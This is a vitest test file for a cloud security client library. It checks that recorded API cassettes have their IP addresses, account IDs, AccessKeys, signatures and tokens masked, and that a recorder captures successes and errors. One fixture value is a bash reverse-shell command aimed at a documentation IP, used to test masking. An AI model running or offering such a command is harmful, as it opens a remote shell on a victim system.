import { describe, expect, it } from 'vitest';
import {
  type Cassette,
  CassetteRecorder,
  PLACEHOLDER_ACCOUNT_ID,
  parseCassette,
  redactCassette,
} from '../../src/emulator/index.js';
import { NoPermissionError, TimeoutError } from '../../src/index.js';
import type { RequestAuditEvent } from '../../src/transport/options.js';

function cassetteWith(body: Record<string, unknown>, params: Record<string, string> = {}): Cassette {
  return {
    name: 'c',
    source: 'test',
    interactions: [
      {
        request: { product: 'Sas', version: '2018-12-03', action: 'DescribeSuspEvents', params },
        response: { status: 200, body },
      },
    ],
  };
}

function redactedBody(body: Record<string, unknown>, secrets: string[] = []): unknown {
  return redactCassette(cassetteWith(body), { secrets }).interactions[0]?.response.body;
}

function event(fields: Partial<RequestAuditEvent>): RequestAuditEvent {
  return {
    kind: 'request',
    product: 'Sas',
    action: 'HandleSecurityEvents',
    version: '2018-12-03',
    attempt: 1,
    params: { 'SecurityEventIds.1': '909361', OperationCode: 'ignore' },
    durationMs: 3,
    outcome: 'success',
    willRetry: false,
    ...fields,
  } as RequestAuditEvent;
}

describe('redactCassette', () => {
  it('masks IPv4 addresses keeping the first two octets, and IPv6 addresses', () => {
    expect(
      redactedBody({
        InternetIp: '47.100.12.34',
        Cidr: '192.0.2.0/24',
        Command: 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1',
        Full: '2408:4005:3cd:8d00:1a2b:3c4d:5e6f:7a8b',
        Short: 'from fe80::1ff:fe23:4567:890a and ::1',
        Mapped: '::ffff:203.0.113.7',
      }),
    ).toEqual({
      InternetIp: '47.100.XX.XX',
      Cidr: '192.0.XX.XX/24',
      Command: 'bash -i >& /dev/tcp/198.51.XX.XX/4444 0>&1',
      Full: '****',
      Short: 'from **** and ****',
      Mapped: '****',
    });
  });

  it('leaves alone what only looks like an address', () => {
    const body = {
      Masked: '1.2.XX.XX',
      Time: '2018-09-26 01:51:01',
      Version: '1.2.3.4.5',
      Mac: '00:16:3e:01:02:03',
      Code: 'std::string',
      Octets: '300.1.2.3',
    };
    expect(redactedBody(body)).toEqual(body);
  });

  it('replaces account ids by a placeholder of the same type, in the body and the parameters', () => {
    const cassette = cassetteWith(
      {
        SourceAliUid: 1234567890123456,
        ResourceOwnerId: '1234567890123456',
        AliUids: [111, 222],
        AccountId: '196072141348****',
        Arn: 'acs:ram::1234567890123456:role/aliyunsasdefaultrole',
      },
      { SourceAliUids: '111,222', ResourceDirectoryAccountId: '127608589417' },
    );

    const redacted = redactCassette(cassette);

    expect(redacted.interactions[0]?.response.body).toEqual({
      SourceAliUid: PLACEHOLDER_ACCOUNT_ID,
      ResourceOwnerId: '1000000000000000',
      AliUids: [PLACEHOLDER_ACCOUNT_ID, PLACEHOLDER_ACCOUNT_ID],
      AccountId: '196072141348****',
      Arn: 'acs:ram::1000000000000000:role/aliyunsasdefaultrole',
    });
    expect(redacted.interactions[0]?.request.params).toEqual({
      SourceAliUids: '1000000000000000,1000000000000000',
      ResourceDirectoryAccountId: '1000000000000000',
    });
    expect(() => parseCassette(redacted)).not.toThrow();
  });

  it('removes known secrets, also percent-encoded, AccessKey ids, signatures and STS tokens', () => {
    const secret = 'p/q+r=s&t';
    const token = `CAIS${'x'.repeat(40)}`;
    expect(
      redactedBody(
        {
          Message: `secret ${secret} or ${encodeURIComponent(secret)}`,
          Key: 'signed by LTAI5tAbCdEfGhIjKlMn and STS.NUgYrLnoC37mZZCNnAbez2n4',
          Url: `https://tds.aliyuncs.com/?Signature=abc%2Bdef&SecurityToken=${token}&Action=Describe`,
          Header: 'ACS3-HMAC-SHA256 Credential=LTAIx,SignedHeaders=host,Signature=0a1b',
          Token: token,
          AccessKeySecret: 'anything',
        },
        [secret],
      ),
    ).toEqual({
      Message: 'secret *** or ***',
      Key: 'signed by LTAI**** and STS.****',
      Url: 'https://tds.aliyuncs.com/?Signature=***&SecurityToken=***&Action=Describe',
      Header: 'ACS3-HMAC-SHA256 Credential=***',
      Token: '***',
      AccessKeySecret: '***',
    });
  });

  it('redacts string bodies and headers, and keeps the rest of the cassette', () => {
    const cassette: Cassette = {
      name: 'html',
      source: 'recorded from 47.100.12.34',
      interactions: [
        {
          request: { product: 'Sas', version: '2018-12-03', action: 'DescribeSuspEvents', params: {} },
          response: {
            status: 503,
            body: '<html>503 from 47.100.12.34</html>',
            headers: { 'content-type': 'text/html', 'x-forwarded-for': '203.0.113.7' },
            delayMs: 5,
          },
        },
      ],
    };

    expect(redactCassette(cassette)).toEqual({
      name: 'html',
      source: 'recorded from 47.100.XX.XX',
      interactions: [
        {
          request: cassette.interactions[0]?.request,
          response: {
            status: 503,
            body: '<html>503 from 47.100.XX.XX</html>',
            headers: { 'content-type': 'text/html', 'x-forwarded-for': '203.0.XX.XX' },
            delayMs: 5,
          },
        },
      ],
    });
  });
});

describe('CassetteRecorder', () => {
  it('records successes with their body and refusals rebuilt from the typed error', () => {
    const recorder = new CassetteRecorder();
    const denied = new NoPermissionError('denied', {
      code: 'NoPermission',
      statusCode: 403,
      requestId: 'REQ-1',
      hostId: 'tds.cn-shanghai.aliyuncs.com',
      serviceMessage: 'caller has no permission',
      recommend: 'https://api.aliyun.com/troubleshoot?q=NoPermission',
      ramAction: 'yundun-sas:HandleSecurityEvents',
    });

    recorder.onAudit(event({ outcome: 'error', error: denied, statusCode: 403, willRetry: false }));
    recorder.onAudit(
      event({ statusCode: 200, response: { RequestId: 'REQ-2', HandleSecurityEventsResponse: {} } }),
    );
    const cassette = recorder.take('handle', 'test');

    expect(cassette.interactions).toEqual([
      {
        request: {
          product: 'Sas',
          version: '2018-12-03',
          action: 'HandleSecurityEvents',
          params: { 'SecurityEventIds.1': '909361', OperationCode: 'ignore' },
        },
        response: {
          status: 403,
          body: {
            RequestId: 'REQ-1',
            HostId: 'tds.cn-shanghai.aliyuncs.com',
            Code: 'NoPermission',
            Message: 'caller has no permission',
            Recommend: 'https://api.aliyun.com/troubleshoot?q=NoPermission',
          },
        },
      },
      {
        request: expect.objectContaining({ action: 'HandleSecurityEvents' }),
        response: { status: 200, body: { RequestId: 'REQ-2', HandleSecurityEventsResponse: {} } },
      },
    ]);
    expect(() => parseCassette(cassette)).not.toThrow();
    expect(recorder.interactions).toEqual([]);
  });

  it('counts attempts without an answer instead of recording them', () => {
    const recorder = new CassetteRecorder();
    const timeout = new TimeoutError('late', { code: 'RequestTimeout', timeoutMs: 100 });

    recorder.onAudit(event({ outcome: 'error', error: timeout }));

    expect(recorder.interactions).toEqual([]);
    expect(recorder.unanswered).toBe(1);
    recorder.take('empty', 'test');
    expect(recorder.unanswered).toBe(0);
  });
});
